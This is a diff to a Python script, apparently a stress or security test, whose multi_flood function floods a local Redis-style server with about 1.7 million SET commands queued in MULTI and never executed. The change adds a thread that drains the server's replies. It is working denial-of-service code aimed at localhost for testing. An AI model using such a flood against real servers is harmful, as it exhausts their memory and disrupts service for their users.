@@ -116,9 +116,20 @@ def prober(port, stop, out, password):
 
 def multi_flood(port, i, password):
     """1.7 M inline SETs queued in MULTI, read but never EXECuted (about 15 MB per connection)."""
+    import threading
     s = socket.create_connection(('127.0.0.1', port), timeout=120)
     if password:
         s.sendall(encode('AUTH', password))
+
+    def drain():  # reads every +QUEUED: a client that reads nothing is only paused (its replies wait), not this attack
+        try:
+            while s.recv(1 << 20):
+                pass
+        except OSError:
+            pass
+
+    reader = threading.Thread(target=drain, daemon=True)
+    reader.start()
     s.sendall(b'MULTI\r\n')
     batch = b'SET k v\r\n' * 10_000
     sent = 0
@@ -128,8 +139,7 @@ def multi_flood(port, i, password):
             sent += 10_000
         s.sendall(b'DISCARD\r\n')
         s.shutdown(socket.SHUT_WR)
-        while s.recv(1 << 20):
-            pass
+        reader.join(120)
         return 'queued %d, discarded' % sent
     except OSError as e:
         return 'dropped after %d (%s)' % (sent, type(e).__name__)
